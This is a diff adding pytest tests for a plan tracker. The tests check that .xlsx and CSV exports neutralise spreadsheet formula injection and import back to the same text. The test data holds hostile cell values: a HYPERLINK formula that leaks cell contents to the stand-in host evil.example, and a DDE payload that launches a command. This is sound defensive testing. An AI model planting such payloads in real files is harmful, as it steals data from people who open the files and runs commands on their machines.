@@ -1,0 +1,128 @@
+"""Exports never carry live formulas: hostile texts are written as text (the .xlsx) or
+neutralised the OWASP way (the CSVs), and an export still imports back to the same texts."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+from sqlmodel import SQLModel, select
+
+from tests.helpers import MINIMAL, write_workbook
+from tracker.io.cells import frame_csv, neutralise, restore_text
+from tracker.io.exporter import export_csv_zip, export_workbook
+from tracker.io.importer import import_path
+from tracker.models import ActionItem, Institution, ReportRevision, StrategicLine
+from tracker.services import plans
+from tracker.services.permissions import SYSTEM
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
+DDE = "=cmd|' /C calc'!A0"
+HOSTILE = {
+    "line": "=1+2",
+    "title": HYPERLINK,
+    "description": "-2+3 and more",
+    "indicator": "@SUM(A1:A9)",
+    "unit": "+people",
+    "institution": "+593 police unit",
+    "narrative": DDE,
+    "obstacles": "=1+1",
+    "next_steps": "'=already quoted by hand",
+}
+
+
+def _hostile_plan(session, tmp_path: Path):
+    import_path(session, SYSTEM, write_workbook(tmp_path / "plan.xlsx", MINIMAL))
+    session.flush()
+    plan = plans.get_plan(session, "Small plan")
+    line = session.exec(select(StrategicLine).where(StrategicLine.plan_id == plan.id)).first()
+    line.name = HOSTILE["line"]
+    item = session.exec(select(ActionItem).where(ActionItem.code == "1.1")).one()
+    item.title, item.description = HOSTILE["title"], HOSTILE["description"]
+    item.indicator, item.unit = HOSTILE["indicator"], HOSTILE["unit"]
+    police = session.exec(select(Institution).where(Institution.acronym == "DINAPEN")).one()
+    police.name = HOSTILE["institution"]
+    for revision in session.exec(select(ReportRevision)):
+        revision.narrative = HOSTILE["narrative"]
+        revision.obstacles = HOSTILE["obstacles"]
+        revision.next_steps = HOSTILE["next_steps"]
+    session.flush()
+    return plan
+
+
+def _texts(session) -> dict[str, object]:
+    item = session.exec(select(ActionItem).where(ActionItem.code == "1.1")).one()
+    revisions = session.exec(select(ReportRevision)).all()
+    return {
+        "lines": sorted(line.name for line in session.exec(select(StrategicLine))),
+        "item": (item.title, item.description, item.indicator, item.unit),
+        "institution": session.exec(select(Institution.name).where(
+            Institution.acronym == "DINAPEN")).one(),
+        "reports": sorted({(r.narrative, r.obstacles, r.next_steps) for r in revisions
+                           if not r.nothing_to_report}),
+    }
+
+
+def _wipe(session):
+    for table in reversed(SQLModel.metadata.sorted_tables):
+        session.execute(table.delete())
+    session.flush()
+    session.expunge_all()
+
+
+def test_the_xlsx_export_holds_no_formula_and_imports_back(session, tmp_path):
+    plan = _hostile_plan(session, tmp_path)
+    before = _texts(session)
+    path = tmp_path / "export.xlsx"
+    path.write_bytes(export_workbook(session, SYSTEM, plan))
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist()
+                  if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    workbook = load_workbook(path)  # not data_only: a formula would show as one
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    shown = {cell.value for cell in cells}
+    assert {HYPERLINK, DDE, "=1+2", "@SUM(A1:A9)"} <= shown  # as text, exactly
+    assert all(cell.quotePrefix for cell in cells if cell.value in (HYPERLINK, DDE))
+    _wipe(session)
+    import_path(session, SYSTEM, path)
+    session.flush()
+    assert _texts(session) == before
+
+
+def test_the_csv_export_neutralises_formulas_and_imports_back(session, tmp_path):
+    plan = _hostile_plan(session, tmp_path)
+    before = _texts(session)
+    data = export_csv_zip(session, SYSTEM, plan)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        cells = [cell for name in archive.namelist()
+                 for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
+                 for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert f"'{DDE}" in cells and f"'{HYPERLINK}" in cells and "''=already quoted by hand" in (
+        cells)
+    path = tmp_path / "export.zip"
+    path.write_bytes(data)
+    _wipe(session)
+    import_path(session, SYSTEM, path)
+    session.flush()
+    assert _texts(session) == before
+
+
+@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "'", "''=x", "'a",
+                                  "plain", "", "a=b"])
+def test_neutralising_is_undone_exactly(text):
+    assert restore_text(neutralise(text)) == text
+    assert not str(neutralise(text)).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_a_chart_s_data_download_is_neutralised_too():
+    frame = pd.DataFrame({"institution": [HYPERLINK, "OIM"], "progress": [-12.5, 40.0]})
+    rows = list(csv.reader(io.StringIO(frame_csv(frame).decode())))
+    assert rows == [["institution", "progress"], [f"'{HYPERLINK}", "-12.5"], ["OIM", "40.0"]]
